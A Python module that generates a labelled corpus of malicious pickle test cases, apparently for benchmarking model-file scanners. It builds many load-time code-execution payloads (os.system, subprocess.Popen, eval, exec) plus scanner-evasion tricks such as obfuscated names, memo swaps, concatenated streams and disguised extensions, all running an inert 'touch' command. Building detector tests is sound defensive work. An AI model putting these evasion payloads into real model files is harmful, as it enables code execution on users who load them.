"""Pickles: what is called, by which opcodes it is named, and how the stream is dressed.

Sources of the callables: the documented behaviour of the standard library and of packages that model environments have;
the classes of gadget are those of arXiv 2508.19774 and of the advisories of picklescan and modelscan.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from pathlib import Path

from corpus.case import Case, one
from pickled import built, called, given, items, named, number, proto, stacked, text

# Inert if ever run: the folder does not exist.
COMMAND = "touch /nonexistent-bascule/ran"

GADGETS = Path(__file__).with_name("gadgets.txt")


def _split(dotted: str) -> tuple[str, str]:
    """Module and name: a name may have dots from the first capital or known class on."""
    parts = dotted.split(".")
    for at in range(1, len(parts)):
        if parts[at][:1].isupper():
            return ".".join(parts[:at]), ".".join(parts[at:])
    return ".".join(parts[:-1]), parts[-1]


def _gadget(dotted: str, number_: int) -> Callable[[], bytes]:
    """The callable, called with a text, by a way of naming that goes round."""
    module, name = _split(dotted)
    ways: tuple[Callable[[], bytes], ...] = (
        lambda: proto(called(named(module, name), text(COMMAND)), 2),
        lambda: proto(called(stacked(module, name), text(COMMAND))),
        lambda: proto(
            b"\x8c"
            + bytes([len(module)])
            + module.encode()
            + b"\x94"
            + text(name)
            + b"\x94\x93\x94"
            + text(COMMAND)
            + b"\x94\x85\x94R\x94",
            4,
        ),
        lambda: b"(S'" + COMMAND.encode() + b"'\ni" + module.encode() + b"\n" + name.encode() + b"\n.",
        lambda: proto(b"(" + named(module, name) + text(COMMAND) + b"o", 1),
        lambda: proto(built(stacked(module, name), text(COMMAND))),
    )
    # NEWOBJ makes objects of classes alone.
    return ways[number_ % (len(ways) if name.rsplit(".", 1)[-1][:1].isupper() else len(ways) - 1)]


def _gadgets() -> Iterator[Case]:
    klass, at = "", 0
    for line in GADGETS.read_text().splitlines():
        if line.startswith("["):
            klass, at = f"gadget-{line[1:-1]}", 0
            continue
        yield one(f"{klass}-{line}", klass, "malicious", "model.pkl", _gadget(line, at), f"a load calls {line}")
        at += 1


def _eval(code: bytes = b"") -> bytes:
    return called(stacked("builtins", "eval"), text("print()")) + code


SYSTEM, RUN = stacked("os", "system"), called(stacked("os", "system"), text(COMMAND))


def _import(name: str) -> bytes:
    return called(stacked("importlib", "import_module"), text(name))


def _get(target: bytes, name: str) -> bytes:
    return called(stacked("builtins", "getattr"), target, text(name))


def _codec(value: str, codec: str) -> bytes:
    return called(stacked("_codecs", "encode" if codec == "rot13" else "decode"), text(value), text(codec))


def _chains() -> dict[str, Callable[[], bytes]]:
    cmd = text(COMMAND)
    return {
        "I0x10": lambda: b"\x80\x02I0x10\n0" + called(named("os", "system"), cmd) + b".",
        "L0x10L": lambda: b"\x80\x02L0x10L\n0" + called(named("os", "system"), cmd) + b".",
        "I binary": lambda: b"\x80\x02I 0b101\n0" + called(named("os", "system"), cmd) + b".",
        "I underscore": lambda: b"\x80\x02I1_0\n0" + called(named("os", "system"), cmd) + b".",
        "I01 boolean": lambda: b"\x80\x02I01\n0" + called(named("os", "system"), cmd) + b".",
        "F infinity": lambda: b"Finf\n0Fnan\n0F1_0.5\n0" + called(named("os", "system"), cmd) + b".",
        "LONG4 noise": lambda: b"\x80\x02\x8b\x04\0\0\0abcd0" + called(named("os", "system"), cmd) + b".",
        "negative line endings": lambda: b'cos\nsystem\n(S"' + COMMAND.encode() + b'"\ntR.',
        "S with escapes": lambda: b"cos\nsystem\n(S'\\x74ouch\\x20/nonexistent'\ntR.",
        "V with escapes": lambda: b"V\\u006fs\nV\\u0073ystem\n\x93(V" + COMMAND.encode() + b"\ntR.",
        "unicode module by V": lambda: b"\x80\x04Vos\nVsystem\n\x93" + cmd + b"\x85R.",
        "module by BINSTRING": lambda: b"\x80\x04U\x02osU\x06system\x93" + cmd + b"\x85R.",
        "module by BINBYTES decoded": lambda: proto(
            called(stacked("_codecs", "decode"), b"C\x02os", text("ascii")) + text("system") + b"\x93" + cmd + b"\x85R"
        ),
        "dotted torch": lambda: proto(called(stacked("torch.serialization", "os.system"), cmd)),
        "dotted tempfile": lambda: proto(called(stacked("tempfile", "_os.system"), cmd)),
        "dotted random": lambda: proto(called(stacked("random", "_os.system"), cmd)),
        "dotted getpass": lambda: proto(called(stacked("getpass", "os.system"), cmd)),
        "dotted numpy": lambda: proto(called(stacked("numpy", "os.system"), cmd)),
        "dotted sklearn": lambda: proto(called(stacked("sklearn", "os.system"), cmd)),
        "dotted collections builtins": lambda: proto(
            called(called(stacked("collections", "namedtuple.__builtins__.get"), text("eval")), text("1"))
        ),
        "dotted globals": lambda: proto(called(called(stacked("random", "choices.__globals__.get"), text("_os")), cmd)),
        "dotted class mro": lambda: proto(called(stacked("builtins", "object.__subclasses__"))),
        "dotted init globals": lambda: proto(
            called(stacked("warnings", "catch_warnings.__init__.__globals__.get"), text("sys"))
        ),
        "rot13 module": lambda: proto(_codec("bf", "rot13") + text("system") + b"\x93" + cmd + b"\x85R"),
        "rot13 name": lambda: proto(text("os") + _codec("flfgrz", "rot13") + b"\x93" + cmd + b"\x85R"),
        "joined name": lambda: proto(
            text("os")
            + called(stacked("builtins", "str.join"), text(""), items(text("sys"), text("tem")))
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "name by operator add": lambda: proto(
            text("os") + called(stacked("operator", "add"), text("sys"), text("tem")) + b"\x93" + cmd + b"\x85R"
        ),
        "name by concat": lambda: proto(
            text("os") + called(stacked("operator", "concat"), text("sys"), text("tem")) + b"\x93" + cmd + b"\x85R"
        ),
        "name by reversed": lambda: proto(
            text("os")
            + called(stacked("builtins", "str.join"), text(""), called(stacked("builtins", "reversed"), text("metsys")))
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "name by replace": lambda: proto(
            text("os")
            + called(stacked("builtins", "str.replace"), text("sysxtem"), text("x"), text(""))
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "name by getitem": lambda: proto(
            text("os")
            + called(stacked("operator", "getitem"), items(text("system")), number(0))
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "name by format": lambda: proto(
            text("os")
            + called(stacked("builtins", "str.format"), text("{}tem"), text("sys"))
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "name by base64": lambda: proto(
            text("os") + called(stacked("base64", "b64decode"), text("c3lzdGVt")) + b"\x93" + cmd + b"\x85R"
        ),
        "BUILD on a tensor function": lambda: proto(
            given(stacked("torch._utils", "_rebuild_tensor_v2"), a=text("os"))
            + b"0"
            + _get(stacked("torch._utils", "_rebuild_tensor_v2"), "a")
            + text("system")
            + b"\x93"
            + cmd
            + b"\x85R"
        ),
        "BUILD on a class": lambda: proto(given(stacked("collections", "OrderedDict"), __reduce__=SYSTEM)),
        "BUILD with setstate gadget": lambda: proto(
            b"("
            + stacked("functools", "partial")
            + stacked("builtins", "print")
            + b"o"
            + items(SYSTEM, items(cmd), b"}", b"N")
            + b"b"
        ),
        "BUILD calls slotstate": lambda: proto(
            built(stacked("collections", "Counter")) + items(b"}", b"}" + text("__class__") + SYSTEM + b"s") + b"b"
        ),
        "import getattr": lambda: proto(called(_get(_import("os"), "system"), cmd)),
        "import getattr chain": lambda: proto(called(_get(_get(_import("os"), "path"), "os.system"), cmd)),
        "import dunder": lambda: proto(
            called(_get(called(stacked("builtins", "__import__"), text("os")), "system"), cmd)
        ),
        "attrgetter": lambda: proto(
            called(called(called(stacked("operator", "attrgetter"), text("system")), _import("os")), cmd)
        ),
        "attrgetter dotted": lambda: proto(
            called(called(called(stacked("operator", "attrgetter"), text("modules.get")), _import("sys")), text("os"))
        ),
        "itemgetter of modules": lambda: proto(
            called(called(stacked("operator", "itemgetter"), text("os")), stacked("sys", "modules"))
        ),
        "methodcaller": lambda: proto(
            called(called(stacked("operator", "methodcaller"), text("system"), cmd), _import("os"))
        ),
        "partial": lambda: proto(called(called(stacked("functools", "partial"), SYSTEM, cmd))),
        "reduce over functions": lambda: proto(
            called(stacked("functools", "reduce"), stacked("builtins", "getattr"), items(_import("os"), text("system")))
        ),
        "map list": lambda: proto(
            called(stacked("builtins", "list"), called(stacked("builtins", "map"), SYSTEM, items(cmd)))
        ),
        "filter set": lambda: proto(
            called(stacked("builtins", "set"), called(stacked("builtins", "filter"), SYSTEM, items(cmd)))
        ),
        "map in deque": lambda: proto(
            called(stacked("collections", "deque"), called(stacked("builtins", "map"), SYSTEM, items(cmd)))
        ),
        "starmap any": lambda: proto(
            called(stacked("builtins", "any"), called(stacked("itertools", "starmap"), SYSTEM, items(items(cmd))))
        ),
        "defaultdict factory": lambda: proto(called(stacked("collections", "defaultdict"), SYSTEM)),
        "iter sentinel": lambda: proto(
            called(
                stacked("builtins", "next"),
                called(stacked("builtins", "iter"), called(stacked("functools", "partial"), SYSTEM, cmd), b"N"),
            )
        ),
        "sorted key": lambda: proto(called(stacked("builtins", "max"), items(cmd), SYSTEM)),
        "type of three": lambda: proto(
            called(
                called(
                    stacked("builtins", "type"),
                    text("X"),
                    items(stacked("builtins", "object")),
                    b"}(" + text("__reduce__") + SYSTEM + b"u",
                )
            )
        ),
        "copyreg extension": lambda: proto(
            called(stacked("copyreg", "add_extension"), text("os"), text("system"), number(7))
            + b"0"
            + called(b"\x82\x07", cmd)
        ),
        "extension 1": lambda: proto(called(b"\x82\x01", cmd), 2),
        "extension 2": lambda: proto(called(b"\x83\x01\x02", cmd), 2),
        "extension 4": lambda: proto(called(b"\x84\x01\x02\x03\x04", cmd), 2),
        "persistent id of a call": lambda: proto(RUN + b"Q"),
        "persistent id by line": lambda: b"Pos.system\n" + called(named("os", "system"), cmd) + b".",
        "code object built": lambda: proto(
            called(called(stacked("types", "FunctionType"), called(stacked("marshal", "loads"), b"C\x03abc"), b"}"))
        ),
        "dill code": lambda: proto(
            called(
                stacked("dill._dill", "_create_function"),
                called(stacked("dill._dill", "_create_code"), number(0)),
                b"}",
            )
        ),
        "cloudpickle function": lambda: proto(
            called(
                stacked("cloudpickle.cloudpickle", "_make_function"),
                called(stacked("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")),
                b"}",
            )
        ),
        "cloudpickle subimport": lambda: proto(called(stacked("cloudpickle.cloudpickle", "subimport"), text("os"))),
        "runpy path": lambda: proto(called(stacked("runpy", "run_path"), text("evil.py"))),
        "resolve name": lambda: proto(called(called(stacked("pkgutil", "resolve_name"), text("os:system")), cmd)),
        "logging resolve": lambda: proto(called(called(stacked("logging.config", "_resolve"), text("os.system")), cmd)),
        "NEWOBJ_EX": lambda: proto(
            stacked("subprocess", "Popen") + items(text(COMMAND)) + b"}" + text("shell") + b"\x88s\x92"
        ),
        "NEWOBJ": lambda: proto(built(stacked("subprocess", "Popen"), text(COMMAND))),
        "OBJ": lambda: proto(b"(" + stacked("subprocess", "Popen") + text(COMMAND) + b"o"),
        "memo swap": lambda: proto(
            text("print") + b"\x940" + text("system") + b"q\x00" + b"0" + text("os") + b"h\x00\x93" + cmd + b"\x85R"
        ),
        "memo overwritten": lambda: proto(
            stacked("builtins", "print") + b"q\x010" + SYSTEM + b"q\x010h\x01" + cmd + b"\x85R", 2
        ),
        "memo LONG_BINPUT": lambda: proto(SYSTEM + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0" + cmd + b"\x85R"),
        "memo text PUT": lambda: b"cos\nsystem\np999\n0g999\n(S'x'\ntR.",
        "POP_MARK around": lambda: proto(b"(" + text("a") + text("b") + b"1" + RUN),
        "DUP used": lambda: proto(SYSTEM + b"2" + cmd + b"\x85R"),
        "in a list": lambda: proto(b"](" + RUN + b"e"),
        "in a dict value": lambda: proto(b"}" + text("w") + RUN + b"s"),
        "in a dict key": lambda: proto(b"}" + RUN + text("w") + b"s"),
        "in a frozenset": lambda: proto(b"(" + RUN + b"\x91"),
        "ADDITEMS": lambda: proto(b"\x8f(" + RUN + b"\x90"),
        "APPEND on a call's object": lambda: proto(called(stacked("collections", "deque")) + RUN + b"a"),
        "SETITEM on sys.modules": lambda: proto(stacked("sys", "modules") + text("os") + RUN + b"s"),
        "popped after the call": lambda: proto(RUN + b"0" + b"N"),
        "truncated after the call": lambda: b"\x80\x04" + RUN,
        "broken after the call": lambda: b"\x80\x04" + RUN + b"\xff\xff",
        "truncated inside a later opcode": lambda: b"\x80\x04" + RUN + b"X\xff\xff\xff\x7f",
        "stack underflow after the call": lambda: b"\x80\x04" + RUN + b"000000R.",
        "frame that lies": lambda: b"\x80\x04\x95" + struct.pack("<Q", 3) + RUN + b".",
        "frame too long": lambda: b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + RUN + b".",
        "nested in bytes": lambda: proto(
            called(stacked("pickle", "loads"), b"B" + struct.pack("<I", len(proto(RUN))) + proto(RUN))
        ),
        "concatenated after a benign one": lambda: proto(b"}") + proto(RUN),
        "concatenated after padding": lambda: proto(b"}") + b"\0" * 64 + proto(RUN),
        "third of three": lambda: proto(b"}") + proto(b"]") + proto(RUN),
        "behind a million no-ops": lambda: b"\x80\x04" + b"N0" * 1_000_000 + RUN + b".",
        "behind a long text": lambda: proto(text("x" * 3_000_000) + b"0" + RUN),
        "bytearray argument": lambda: proto(
            called(SYSTEM, called(stacked("builtins", "bytes"), b"\x96" + struct.pack("<Q", 2) + b"id"))
        ),
        "out-of-band buffer": lambda: b"\x80\x05\x97\x980" + RUN + b".",
        "protocol 0 whole": lambda: b"cos\nsystem\np0\n(Vtouch\np1\ntp2\nRp3\n.",
        "protocol 1 whole": lambda: b"cos\nsystem\nq\x00(U\x05touchq\x01tq\x02Rq\x03.",
        "eval of a string": lambda: proto(_eval()),
        "exec by dict": lambda: proto(
            called(called(stacked("operator", "getitem"), stacked("builtins", "__dict__"), text("exec")), text("1"))
        ),
        "torch rebuild with a call as storage": lambda: proto(
            called(stacked("torch._utils", "_rebuild_tensor_v2"), RUN, number(0), items(), items(), b"\x89", b"}")
        ),
        "numpy reconstruct of a foreign class": lambda: proto(
            called(
                stacked("numpy.core.multiarray", "_reconstruct"),
                stacked("subprocess", "Popen"),
                items(number(0)),
                b"C\x01b",
            )
        ),
        "copyreg reconstructor of a process": lambda: proto(
            called(
                stacked("copyreg", "_reconstructor"),
                stacked("subprocess", "Popen"),
                stacked("builtins", "object"),
                b"N",
            )
        ),
        "copyreg newobj": lambda: proto(
            called(stacked("copyreg", "__newobj__"), stacked("subprocess", "Popen"), text(COMMAND))
        ),
        "getattr builtin on a model": lambda: proto(
            called(_get(built(stacked("sklearn.svm", "SVC")), "__init__.__globals__"))
        ),
    }


def _tricks() -> Iterator[Case]:
    for name, build in _chains().items():
        yield one(f"chain-{name}", "pickle-chains", "malicious", "model.pkl", build, f"a load runs a call: {name}")
    for extension in (
        "bin",
        "pt",
        "pth",
        "ckpt",
        "joblib",
        "dill",
        "data",
        "model",
        "txt",
        "safetensors",
        "json",
        "png",
    ):
        yield one(
            f"extension-{extension}",
            "pickle-chains",
            "malicious",
            f"weights.{extension}",
            lambda: proto(RUN),
            "a loader takes it whatever it is called",
        )


CASES: tuple[Case, ...] = (*_gadgets(), *_tricks())
